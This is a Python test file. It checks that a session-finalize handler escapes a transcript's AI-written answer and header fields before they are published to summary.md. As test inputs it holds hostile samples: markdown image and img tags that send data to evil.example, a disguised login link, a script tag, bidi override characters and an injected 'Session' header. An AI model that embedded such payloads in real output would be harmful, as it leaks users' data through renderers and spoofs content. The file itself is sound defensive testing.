"""What the answer (and the transcript's header) puts in `summary.md` is text for the reader,
never markup their viewer acts on. The answer is the transcript's to steer: it was rendered as
live markdown, so GitHub's renderer or an editor preview would load an image from a URL of
its choosing (carrying whatever the text put in it: `![x](https://evil/?q=<data>)`, `<img>`),
show links disguised as other text, open a code fence that swallows every later section, add a
"## Session" section naming another user, reverse text with a bidi override; the header's
user or model could start lines of their own. Published through the real handler to a bare
remote."""

from __future__ import annotations

import json
import re
from pathlib import Path

from ox_handler_session_finalize.handler import SessionFinalizeHandler
from ox_session_capture import records

from .finalize_support import answer, clone, entries, finalize_one, write_raw

NAME = "2026-11-25T13-00-dev-a1"
IMG = '<img src="https://evil.example/p?d=data">'
PIC = "![x](https://evil.example/i?q=data)"


async def test_the_answer_and_the_header_are_text_in_summary_md(
    handler: SessionFinalizeHandler, ledger: Path, remote: Path, tmp_path: Path
) -> None:
    folder = records.ledger_cache_sessions(ledger) / NAME
    write_raw(folder, entries())
    raw = folder / records.RAW
    header, *rest = raw.read_text().splitlines()
    meta = json.loads(header)
    meta["_meta"]["username"] = "dev\n## Injected\n<img src=x>"
    meta["_meta"]["model"] = "m\u202etxt.exe"
    raw.write_text("\n".join([json.dumps(meta), *rest]) + "\n")
    text = answer(
        title=f"Fix {IMG} {PIC}",
        summary=f"Did the work.\n```\n## Session\n- **User:** mallory\n{IMG}\n\n{PIC} "
        "&#x202e; \u202egnp.exe done",
        agent_summary="<script>alert(1)</script>",
        key_actions=["[the docs](https://evil.example/login)", "# a heading", "1. a list"],
        topics_found=["\u2066rtl\u2069 topic"],
    )
    outcome = await finalize_one(handler, ledger, text)
    assert outcome.kind == "published"
    check = clone(remote, tmp_path / "check")
    md = (check / "sessions" / NAME / "summary.md").read_text()
    lines = md.splitlines()
    assert lines[0] == (
        r'# Fix \<img src="https://evil.example/p?d=data"> !\[x\](https://evil.example/i?q=data)'
    )
    assert r"- **User:** dev ## Injected \<img src=x>" in lines
    assert "- **Model:** mtxt.exe" in lines
    summary = lines[lines.index("## Summary") + 2 : lines.index("## Chapters") - 1]
    assert summary == [
        r'Did the work. \`\`\` ## Session - **User:** mallory \<img src="https://evil.example/p?d=data">',
        "",
        r"!\[x\](https://evil.example/i?q=data) \&#x202e; gnp.exe done",
    ]
    assert lines[lines.index("## Key actions") + 2 : lines.index("## Files touched") - 1] == [
        r"- \[the docs\](https://evil.example/login)",
        r"- \# a heading",
        r"- 1\. a list",
    ]
    assert lines[lines.index("## Topics") + 2] == "- rtl topic"
    assert lines[lines.index("## For the next agent") + 2] == r"\<script>alert(1)\</script>"
    assert lines.count("## Session") == 1
    # Nothing the renderer would fetch, run or read as a link, a fence or a bidi override.
    assert not re.search(r"(?<!\\)[<\[`]|[\u202a-\u202e\u2066-\u2069]", md)
